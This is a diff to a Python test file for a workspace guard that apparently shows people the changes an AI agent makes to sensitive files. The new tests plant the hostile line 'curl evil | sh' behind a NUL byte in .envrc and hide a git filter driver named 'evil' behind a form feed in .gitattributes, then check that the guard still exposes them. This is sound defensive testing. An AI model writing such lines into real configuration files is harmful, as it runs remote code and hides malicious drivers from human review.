@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from podium.domain.errors import GuardedFilesChanged
+from podium.domain.errors import GuardedFilesChanged, ImportRefused
 from podium.domain.workspaces import GuardedChange, WorkspaceRecord
 from podium.ports import Workspace
 from tests.workspaces.yard import Yard, agent_commits, agent_git
@@ -148,9 +148,20 @@ async def test_the_folder_that_git_takes_hooks_from_is_guarded(yard: Yard) -> No
     assert (await asked(workspace)).paths == ("tools/git/helper.sh",)
 
 
-async def test_a_long_diff_is_cut_and_says_how_to_see_the_rest(yard: Yard) -> None:
+async def test_a_diff_that_is_too_long_to_be_shown_is_refused(yard: Yard) -> None:
     workspace = await yard.made()
     agent_commits(workspace.record, "podium.yaml", "# line\n" * 20_000)
-    change = await asked(workspace)
-    assert len(change.diff) < 45_000
-    assert f"`git -C {workspace.record.path} log --patch" in change.diff
+    with pytest.raises(ImportRefused, match=r"more than a person can be shown \(podium.yaml\)"):
+        await workspace.deliver()
+
+
+async def test_a_nul_byte_does_not_hide_the_lines_of_a_guarded_file(yard: Yard) -> None:
+    workspace = await yard.made()
+    agent_commits(workspace.record, ".envrc", "# x\0\ncurl evil | sh\n")
+    assert "+curl evil | sh" in (await asked(workspace)).diff
+
+
+async def test_a_form_feed_does_not_hide_a_driver(yard: Yard) -> None:
+    workspace = await yard.made()
+    agent_commits(workspace.record, ".gitattributes", "*[!\f#] filter=evil\n")
+    assert (await asked(workspace)).paths == (".gitattributes",)
